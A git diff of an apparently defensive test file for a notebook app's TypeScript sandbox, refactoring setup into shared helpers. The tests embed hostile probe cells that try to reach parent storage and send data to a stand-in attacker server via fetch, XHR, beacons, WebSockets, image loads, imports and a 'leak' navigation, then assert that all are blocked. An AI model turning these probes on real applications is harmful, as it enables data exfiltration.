@@ -3,32 +3,14 @@
  * cell code computes what it should through the page's connector, and cannot reach the page,
  * its storage, the network or another origin (an attacker server on a second port counts hits).
  */
-import { afterEach, beforeEach, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import { inject } from 'vitest';
 import type { Page } from 'playwright-core';
-import { openApp, startAttacker, type AppSession, type Attacker } from './harness';
 import { notebookIdle as idle } from './app-helpers';
+import { cell, hostileSession, openTrusted } from './notebook-helpers';
 
-let app: AppSession | undefined;
-let attacker: Attacker;
-beforeEach(async () => {
-  attacker = await startAttacker();
-});
-afterEach(async () => {
-  await app?.close();
-  app = undefined;
-  await attacker.close();
-});
-
-async function start(): Promise<Page> {
-  app = await openApp({ passThrough: [attacker.url], path: '#/notebook' });
-  const { page } = app;
-  await page.locator('[data-testid=notebook][data-ready=true]').waitFor({ timeout: 120_000 });
-  await idle(page);
-  return page;
-}
-const cell = (page: Page, id: string) => page.locator(`[data-testid=cell][data-cell-id="${id}"]`);
-const openTrusted = (page: Page, text: string) => page.evaluate((t) => (window as any).__msoko.notebook.openText(t, { trusted: true }), text);
+const session = hostileSession();
+const start = () => session.start();
 
 test('the app and the exported report forbid eval, forms, <base> and plugins', async () => {
   const html = await (await fetch(inject('appUrl'))).text();
@@ -56,7 +38,7 @@ test('TS cells compute in the sandbox through the page connector; their tables a
   expect(await cell(page, 's').getAttribute('data-status')).toBe('done');
   expect((await cell(page, 'b').getByTestId('cell-value').textContent())?.trim()).toBe(String(2 * 10 + 5 + 2));
   expect(await page.locator('iframe[data-testid=ts-sandbox]').getAttribute('sandbox')).toBe('allow-scripts');
-  expect(app!.offOrigin).toEqual([]);
+  expect(session.app.offOrigin).toEqual([]);
 });
 
 test('a trusted TS cell cannot reach the page, its storage, the network or another origin', async () => {
@@ -65,18 +47,18 @@ test('a trusted TS cell cannot reach the page, its storage, the network or anoth
   const probes = `const out: Record<string, string> = {};
 const tryIt = async (name: string, f: () => unknown) => { try { await f(); out[name] = 'ok'; } catch (e) { out[name] = 'blocked'; } };
 await tryIt('parent', () => (window.parent as any).document.title);
-await tryIt('top', () => { (window.top as any).location.href = '${attacker.url}top'; });
+await tryIt('top', () => { (window.top as any).location.href = '${session.attacker.url}top'; });
 await tryIt('storage', () => localStorage.getItem('secret'));
 await tryIt('idb', () => indexedDB.open('x'));
-await tryIt('fetch', () => fetch('${attacker.url}fetch'));
-await tryIt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${attacker.url}xhr'); x.send(); });
-await tryIt('beacon', () => { if (!navigator.sendBeacon('${attacker.url}beacon', 'x')) throw new Error('no'); });
-await tryIt('open', () => { if (!window.open('${attacker.url}open')) throw new Error('no'); });
-await tryIt('img', () => { const i = new Image(); i.src = '${attacker.url}img'; document.body.appendChild(i); });
-await tryIt('ws', () => new WebSocket('${attacker.url.replace('http', 'ws')}ws'));
-await tryIt('import', () => import('${attacker.url}mod.js'));
+await tryIt('fetch', () => fetch('${session.attacker.url}fetch'));
+await tryIt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${session.attacker.url}xhr'); x.send(); });
+await tryIt('beacon', () => { if (!navigator.sendBeacon('${session.attacker.url}beacon', 'x')) throw new Error('no'); });
+await tryIt('open', () => { if (!window.open('${session.attacker.url}open')) throw new Error('no'); });
+await tryIt('img', () => { const i = new Image(); i.src = '${session.attacker.url}img'; document.body.appendChild(i); });
+await tryIt('ws', () => new WebSocket('${session.attacker.url.replace('http', 'ws')}ws'));
+await tryIt('import', () => import('${session.attacker.url}mod.js'));
 return out;`;
-  const text = `---\ntitle: Враждебный TS\n---\n\n\`\`\`ts id=p name=p\n${probes}\n\`\`\`\n\n\`\`\`ts id=nav name=nav\nlocation.href = '${attacker.url}nav?leak=' + (await sql\`SELECT 42 AS n\`)[0].n;\nawait new Promise((r) => setTimeout(r, 3000));\nreturn 'осталась';\n\`\`\`\n\n\`\`\`ts id=after name=after\nreturn 7;\n\`\`\`\n`;
+  const text = `---\ntitle: Враждебный TS\n---\n\n\`\`\`ts id=p name=p\n${probes}\n\`\`\`\n\n\`\`\`ts id=nav name=nav\nlocation.href = '${session.attacker.url}nav?leak=' + (await sql\`SELECT 42 AS n\`)[0].n;\nawait new Promise((r) => setTimeout(r, 3000));\nreturn 'осталась';\n\`\`\`\n\n\`\`\`ts id=after name=after\nreturn 7;\n\`\`\`\n`;
   await openTrusted(page, text);
   await idle(page);
   await expect.poll(() => cell(page, 'after').getAttribute('data-status'), { timeout: 30_000 }).toBe('done');
@@ -84,7 +66,7 @@ return out;`;
   // XHR fails asynchronously (onerror), so only the hit count below tells it was stopped.
   for (const k of ['parent', 'top', 'storage', 'idb', 'fetch', 'open', 'import']) expect([k, probed[k]]).toEqual([k, 'blocked']);
   await page.waitForTimeout(1500);
-  expect(page.url().startsWith(app!.url)).toBe(true);
+  expect(page.url().startsWith(session.app.url)).toBe(true);
   expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('ФИО');
-  expect(attacker.hits).toEqual([]);
+  expect(session.attacker.hits).toEqual([]);
 });
